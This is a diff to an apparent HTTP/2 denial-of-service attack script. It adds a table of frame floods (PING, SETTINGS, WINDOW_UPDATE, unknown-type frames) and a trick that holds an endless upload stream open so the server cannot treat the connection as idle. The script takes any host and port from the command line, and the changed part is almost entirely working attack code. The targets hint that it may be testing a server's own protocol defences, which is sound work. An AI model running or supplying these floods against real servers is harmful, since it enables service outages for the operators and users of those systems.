@@ -97,6 +97,15 @@ class Attack:
             self.poll(0.2)
 
 
+FLOODS = {
+    "ping_flood": frame(PING, 0, 0, struct.pack(">Q", 7)),
+    "ping_ack_flood": frame(PING, ACK, 0, struct.pack(">Q", 7)),
+    "settings_flood": frame(SETTINGS, 0, 0, struct.pack(">HI", 0x3, 100)),
+    "window_update_flood": frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
+    "unknown_flood": frame(0xFA, 0, 0, b""),
+}
+
+
 def main():
     attack, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
     a = Attack(host, port)
@@ -131,18 +140,20 @@ def main():
             return a.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, base + (big if i == 0 else b"") + index * 2000))
 
         a.run(10, step)
-    elif attack == "ping_flood":
-        def step(i):
-            return a.send(frame(PING, 0, 0, struct.pack(">Q", i)) * 64)
+    elif attack in FLOODS:
+        # An upload that never ends keeps a stream open: the connection is not idle, so only
+        # the flood itself can end it.
+        a.send(frame(HEADERS, END_HEADERS, 1, a.enc.encode([(":method", "POST"), (":scheme", "https"), (":path", "/upload"), (":authority", "localhost")])))
+        a.requests += 1
+        one = FLOODS[attack]
 
-        a.run(10, step)
-    elif attack == "settings_flood":
         def step(i):
-            return a.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 0x3, 100)) * 64)
+            return a.send(one * 64)
 
         a.run(10, step)
     elif attack == "empty_data":
         a.send(a.headers(1, end_stream=False))
+        a.send(frame(DATA, 0, 1, b"x"))
 
         def step(i):
             return a.send(frame(DATA, 0, 1) * 64)
